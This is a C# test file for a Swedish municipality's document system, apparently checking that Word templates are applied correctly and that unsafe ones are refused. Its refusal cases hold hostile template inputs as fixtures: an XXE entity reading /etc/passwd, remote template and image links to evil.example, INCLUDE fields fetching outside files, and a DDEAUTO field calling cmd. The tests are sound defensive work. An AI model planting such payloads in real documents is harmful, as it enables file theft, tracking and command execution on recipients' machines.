using System.IO.Compression;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using Samsyn.Documents.Extraction;
using Samsyn.Documents.Writing;
using Samsyn.Documents.Writing.Docx;
using Samsyn.Domain.Kernel;
using Paragraph = DocumentFormat.OpenXml.Wordprocessing.Paragraph;
using Table = DocumentFormat.OpenXml.Wordprocessing.Table;

namespace Samsyn.Documents.Tests.Writing;

/// <summary>The municipality's own template: used as it is, and refused when it carries or fetches what it should not.</summary>
public sealed class DocxTemplateTests
{
    [Fact]
    public void Its_styles_by_their_Swedish_ids_its_header_its_page_and_its_place_are_used()
    {
        var template = Template(MunicipalTemplate());
        Assert.True(template.HasMark);
        Assert.Equal(["samsyn-title", "samsyn-diary"], template.Fields);

        using var document = PaperDocxTests.Open(PaperDocx.Write(SamplePapers.Whole(), template));
        Assert.Empty(PaperDocxTests.Errors(document));
        var main = document.MainDocumentPart!;
        var body = main.Document.Body!;
        Assert.Equal("Rubrik1", body.Descendants<Paragraph>().First(p => p.InnerText.Contains("§ 42", StringComparison.Ordinal)).ParagraphProperties!.ParagraphStyleId!.Val!.Value);
        Assert.DoesNotContain(main.StyleDefinitionsPart!.Styles!.Elements<Style>(), style => style.StyleId == "Heading1");
        var text = body.InnerText;
        Assert.True(text.IndexOf("Ekstads kommun informerar", StringComparison.Ordinal) < text.IndexOf("Närvarande", StringComparison.Ordinal));
        Assert.True(text.IndexOf("Robin Björk", StringComparison.Ordinal) < text.IndexOf("Efter innehållet", StringComparison.Ordinal));
        Assert.DoesNotContain("HÄR KOMMER TEXTEN", text, StringComparison.Ordinal);
        var header = main.HeaderParts.Single().Header.InnerText;
        Assert.Contains("Protokoll från styrgruppens möte", header, StringComparison.Ordinal);
        Assert.Contains("A512.300/2026", header, StringComparison.Ordinal);
        Assert.Equal(10000u, body.Elements<SectionProperties>().Single().GetFirstChild<PageSize>()!.Width!.Value);
    }

    [Fact, Trait("Requirement", "DOC-22")]
    public void What_its_header_has_no_field_for_stands_above_the_content()
    {
        using var document = PaperDocxTests.Open(PaperDocx.Write(SamplePapers.Whole(), Template(MunicipalTemplate())));
        var text = document.MainDocumentPart!.Document.Body!.InnerText;
        Assert.Contains("Protokoll · Version 1.0 · Beslutad 2026-11-26", text, StringComparison.Ordinal);
        Assert.DoesNotContain("A512.300/2026", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Without_a_mark_the_content_comes_last_and_our_own_output_is_a_template_too()
    {
        var template = Template(PaperDocx.Write(SamplePapers.Whole() with { Blocks = [new Documents.Writing.Paragraph("Först")] }));
        Assert.False(template.HasMark);
        using var document = PaperDocxTests.Open(PaperDocx.Write(SamplePapers.Whole(), template));
        Assert.Empty(PaperDocxTests.Errors(document));
        var body = document.MainDocumentPart!.Document.Body!;
        Assert.IsType<SectionProperties>(body.LastChild);
        Assert.True(body.InnerText.IndexOf("Först", StringComparison.Ordinal) < body.InnerText.IndexOf("Robin Björk", StringComparison.Ordinal));
    }

    [Fact]
    public void A_bookmark_marks_the_place_as_well_and_a_dotx_becomes_a_document()
    {
        var template = Template(Made(main => main.Document.Body!.Append(
            new Paragraph(new BookmarkStart { Id = "1", Name = "Samsyn" }, new Run(new Text("plats")), new BookmarkEnd { Id = "1" }), new Paragraph(new Run(new Text("sist")))), WordprocessingDocumentType.Template));
        using var document = PaperDocxTests.Open(PaperDocx.Write(SamplePapers.Whole(), template));
        Assert.Equal(WordprocessingDocumentType.Document, document.DocumentType);
        Assert.DoesNotContain("plats", document.MainDocumentPart!.Document.Body!.InnerText.Replace("Plats", "", StringComparison.Ordinal).Replace("webbplats", "", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.EndsWith("sist", document.MainDocumentPart.Document.Body.InnerText, StringComparison.Ordinal);
        Assert.Empty(PaperDocxTests.Errors(document));
    }

    [Fact, Trait("Requirement", "DOC-22")]
    public void A_drafts_watermark_is_on_first_even_and_other_pages_even_where_the_template_has_no_header()
    {
        var template = Template(Made(main =>
        {
            main.AddNewPart<DocumentSettingsPart>("settings").Settings = new Settings(new EvenAndOddHeaders());
            main.Document.Body!.Append(new Paragraph(new Run(new Text("a"))), new SectionProperties(new TitlePage()));
        }));
        using var document = PaperDocxTests.Open(PaperDocx.Write(SamplePapers.Whole(draft: true), template));
        var headers = document.MainDocumentPart!.Document.Body!.Elements<SectionProperties>().Single().Elements<HeaderReference>().ToList();
        Assert.Equal(3, headers.Select(header => header.Type!.InnerText).Distinct().Count());
        Assert.All(document.MainDocumentPart.HeaderParts, part => Assert.Single(part.Header.Descendants<DocumentFormat.OpenXml.Vml.TextPath>(), path => path.String?.Value == "Utkast"));
        Assert.Empty(PaperDocxTests.Errors(document));
    }

    [Fact]
    public void The_same_paper_on_the_same_template_gives_the_same_bytes()
    {
        var template = Template(MunicipalTemplate());
        Assert.Equal(PaperDocx.Write(SamplePapers.Whole(draft: true), template), PaperDocx.Write(SamplePapers.Whole(draft: true), template));
    }

    public static TheoryData<string, Func<byte[]>, Type> Refused { get; } = new()
    {
        { "tom", () => [], typeof(FileIsEmpty) },
        { "text", () => "Hej"u8.ToArray(), typeof(TemplateIsNotWord) },
        { "pdf", () => "%PDF-1.7\nstartxref"u8.ToArray(), typeof(TemplateIsNotWord) },
        { "bild", () => [0x89, (byte)'P', (byte)'N', (byte)'G', 0, 0], typeof(PictureInsteadOfDocument) },
        { "avkapad", () => MunicipalTemplate()[..2000], typeof(DamagedWordDocument) },
        { "för stor", () => new byte[DocxTemplate.MaxBytes + 1], typeof(FileIsTooLarge) },
        { "trasig XML", () => Replaced("word/document.xml", "<w:document", "<w:documen"), typeof(DamagedWordDocument) },
        { "DTD", () => Replaced("word/document.xml", "<w:document", "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document"), typeof(DamagedWordDocument) },
        { "makron", () => With("word/vbaProject.bin", "x"), typeof(TemplateHasMacros) },
        { "makroformat", () => Made(main => main.Document.Body!.Append(new Paragraph()), WordprocessingDocumentType.MacroEnabledDocument), typeof(TemplateHasMacros) },
        { "inbäddat", () => With("word/embeddings/oleObject1.bin", "x"), typeof(TemplateEmbeds) },
        { "fjärrmall", () => Made(main => { var settings = main.AddNewPart<DocumentSettingsPart>("settings"); settings.Settings = new Settings(); settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://evil.example/t.dotm"), "t"); }), typeof(TemplateLeadsOutside) },
        { "fjärrbild", () => Made(main => main.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("http://evil.example/spy.png"), "bild")), typeof(TemplateLeadsOutside) },
        { "fillänk", () => Made(main => main.AddHyperlinkRelationship(new Uri("file://server/share"), isExternal: true, "l")), typeof(TemplateLeadsOutside) },
        { "fält", () => Made(main => main.Document.Body!.Append(new Paragraph(new SimpleField { Instruction = " INCLUDETEXT \"\\\\\\\\server\\\\x.docx\" " }))), typeof(TemplateFetches) },
        { "kluvet fält", () => Made(main => main.Document.Body!.Append(new Paragraph(new Run(new FieldChar { FieldCharType = FieldCharValues.Begin }), new Run(new FieldCode(" INCLUDE")), new Run(new FieldCode("PICTURE \"http://evil.example/x.png\" ")), new Run(new FieldChar { FieldCharType = FieldCharValues.End })))), typeof(TemplateFetches) },
        { "dde", () => Made(main => main.Document.Body!.Append(new Paragraph(new SimpleField { Instruction = "DDEAUTO c:\\\\windows cmd" }))), typeof(TemplateFetches) },
        { "plats i tabell", () => Made(main => main.Document.Body!.Append(new Table(new TableProperties(), new TableGrid(), new TableRow(new DocumentFormat.OpenXml.Wordprocessing.TableCell(new Paragraph(new BookmarkStart { Id = "1", Name = "samsyn" }, new BookmarkEnd { Id = "1" })))), new Paragraph())), typeof(TemplateMarkMisplaced) },
    };

    [Theory, MemberData(nameof(Refused))]
    public void A_file_that_is_no_clean_template_is_refused_with_its_reason(string what, Func<byte[]> file, Type reason)
    {
        var refusals = DocxTemplate.Read("mall.docx", file()).Refusals;
        Assert.True(refusals.Count == 1 && refusals[0].GetType() == reason, $"{what}: {string.Join(", ", refusals)}");
    }

    [Fact]
    public void Any_damage_to_a_template_is_refused_or_harmless_and_never_thrown()
    {
        var whole = MunicipalTemplate();
        for (var seed = 0; seed < 300; seed++)
        {
            var bytes = whole.ToArray();
            var at = (int)(seed * 2654435761L % bytes.Length);
            for (var i = 0; i < 1 + seed % 4; i++) bytes[(at + i * 37) % bytes.Length] ^= (byte)(1 << seed % 8);
            if (DocxTemplate.Read("mall.docx", bytes) is { IsDone: true } read) Assert.NotEmpty(PaperDocx.Write(SamplePapers.Whole(draft: true), read.Value));
        }
    }

    [Fact]
    public void Ordinary_links_to_click_are_welcome() =>
        Assert.True(DocxTemplate.Read("mall.docx", Made(main => main.AddHyperlinkRelationship(new Uri("https://ekstad.example"), isExternal: true, "l"))).IsDone);

    static DocxTemplate Template(byte[] bytes)
    {
        Outcome<DocxTemplate> read = DocxTemplate.Read("mall.docx", bytes);
        return read.Value;
    }

    /// <summary>As Swedish Word saves one: translated style ids, a header with two fields, a page of its own, a place for the text.</summary>
    static byte[] MunicipalTemplate() => Made(main =>
    {
        main.AddNewPart<StyleDefinitionsPart>("styles").Styles = new Styles(
            new Style(new StyleName { Val = "Normal" }) { Type = StyleValues.Paragraph, StyleId = "Normal", Default = true },
            new Style(new StyleName { Val = "heading 1" }, new BasedOn { Val = "Normal" }, new StyleRunProperties(new Bold(), new Languages { Val = "en-US" })) { Type = StyleValues.Paragraph, StyleId = "Rubrik1" });
        main.AddNewPart<HeaderPart>("huvud").Header = new Header(new Paragraph(new Run(new Text("Ekstads kommun"))),
            new Paragraph(Field("samsyn-title", "Titel"), Field("samsyn-diary", "Dnr")));
        main.Document.Body!.Append(
            new Paragraph(new Run(new Text("Ekstads kommun informerar"))),
            new SdtBlock(new SdtProperties(new Tag { Val = "samsyn" }), new SdtContentBlock(new Paragraph(new Run(new Text("HÄR KOMMER TEXTEN"))))),
            new Paragraph(new Run(new Text("Efter innehållet"))),
            new SectionProperties(new HeaderReference { Type = HeaderFooterValues.Default, Id = "huvud" }, new PageSize { Width = 10000, Height = 14000 }, new PageMargin { Left = 1000, Right = 1000, Top = 1000, Bottom = 1000, Header = 500, Footer = 500, Gutter = 0 }));
    });

    static SdtRun Field(string tag, string placeholder) => new(new SdtProperties(new Tag { Val = tag }, new ShowingPlaceholder()), new SdtContentRun(new Run(new Text(placeholder))));

    static byte[] Made(Action<MainDocumentPart> make, WordprocessingDocumentType type = WordprocessingDocumentType.Document)
    {
        using var stream = new MemoryStream();
        using (var document = WordprocessingDocument.Create(stream, type))
        {
            var main = document.AddMainDocumentPart();
            main.Document = new Document(new Body());
            make(main);
        }
        return stream.ToArray();
    }

    static byte[] With(string part, string content) => Changed(zip =>
    {
        using var writer = new StreamWriter(zip.CreateEntry(part).Open());
        writer.Write(content);
    });

    static byte[] Replaced(string part, string from, string to) => Changed(zip =>
    {
        string text;
        using (var reader = new StreamReader(zip.GetEntry(part)!.Open())) text = reader.ReadToEnd();
        Assert.Contains(from, text, StringComparison.Ordinal);
        zip.GetEntry(part)!.Delete();
        using var writer = new StreamWriter(zip.CreateEntry(part).Open());
        writer.Write(text.Replace(from, to, StringComparison.Ordinal));
    });

    static byte[] Changed(Action<ZipArchive> change)
    {
        using var stream = new MemoryStream();
        stream.Write(MunicipalTemplate());
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true)) change(zip);
        return stream.ToArray();
    }
}
